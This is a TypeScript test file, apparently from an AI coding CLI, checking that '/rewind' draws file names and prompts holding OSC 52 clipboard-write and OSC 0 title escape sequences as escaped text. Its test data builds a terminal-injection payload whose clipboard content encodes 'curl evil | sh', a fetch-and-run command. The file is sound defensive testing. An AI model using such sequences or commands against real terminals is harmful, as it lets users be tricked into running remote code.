/**
 * What `/rewind` draws that is not the user's own: the files the model's tools changed, named in
 * the picker's rows, the restore options and what a restore did (a file's name is the model's
 * `file_path`), and a prompt given back to edit (a command line's `$(git log -1)`). One holding an
 * OSC 52 clipboard write or an OSC 0 title reached the terminal raw there. The terminal is tmux,
 * told to honour both, so a sequence that got through would show.
 */
import fs from "node:fs";
import { reply } from "@codebot/agentcore/testing";
import { describe, expect, it } from "vitest";
import { modelServer, printRun, sandbox } from "./support/cli-fixtures.js";
import { useBuiltCli } from "./support/cli-process.js";
import { startSession, startSessionWith } from "./support/terminal-session.js";

useBuiltCli();

const ESC = "\x1b";
const BEL = "\x07";
const CLIPBOARD = Buffer.from("curl evil | sh").toString("base64");
const SEQUENCES = `${ESC}]52;c;${CLIPBOARD}${BEL}${ESC}]0;evil-title${BEL}`;
const NAME = `n${SEQUENCES}.txt`;

describe("/rewind and a file name holding escape sequences", { timeout: 180_000 }, () => {
  it("the picker, its options and the restore write the name out, the clipboard and title untouched", async () => {
    const box = sandbox();
    const { term } = await startSessionWith(
      [reply.toolCall("write", { file_path: NAME, content: "x\n" }), reply.text("written")],
      { box, args: ["--permission-mode", "bypassPermissions"], size: { columns: 120, rows: 40 } },
    );
    term.tmux("set-option", "-s", "set-clipboard", "on");
    term.tmux("set-option", "-g", "allow-rename", "on");
    term.submit("make it");
    await term.waitForScreen(/^written$/m);
    expect(fs.existsSync(box.at(NAME))).toBe(true);
    term.submit("/rewind");
    const picker = await term.waitForScreen("Enter to continue · Esc to cancel");
    expect(picker).toContain("  n\\x1b]52;c;");
    term.press("Up");
    await term.waitForScreen(/^❯ make it$/m);
    term.press("Enter");
    const options = await term.waitForScreen("Restore to the point before you sent this message:");
    expect(options).toContain("The code will be restored in n\\x1b]52;c;");
    // Restore code only: the file the prompt created is removed, and the outcome names it.
    term.type("3");
    const screen = await term.waitForScreen(/created since/);
    expect(fs.existsSync(box.at(NAME))).toBe(false);
    expect(screen).toContain("removed n\\x1b]52;c;");
    expect(term.tmux("list-buffers")).toBe("");
    expect(term.tmux("display-message", "-p", "#{pane_title}")).not.toContain("evil-title");
  });

  it('a prompt given back to edit (`-p "summarize $(git log -1)"`, then `-c`) is drawn without its sequences', async () => {
    const { box } = await printRun(`summarize ${SEQUENCES}end`, [reply.text("one")]);
    const server = await modelServer([reply.text("after")]);
    const term = await startSession(box, server, { args: ["-c"], size: { columns: 120, rows: 40 } });
    term.tmux("set-option", "-s", "set-clipboard", "on");
    term.tmux("set-option", "-g", "allow-rename", "on");
    term.submit("/rewind");
    await term.waitForScreen("Enter to continue · Esc to cancel");
    term.press("Up");
    term.press("Enter");
    await term.waitForScreen("Restore to the point before you sent this message:");
    // Restore conversation (the only restore offered: no code changed).
    term.press("Enter");
    await term.waitForScreen(/^› summarize end$/m);
    expect(term.tmux("list-buffers")).toBe("");
    expect(term.tmux("display-message", "-p", "#{pane_title}")).not.toContain("evil-title");
  });
});
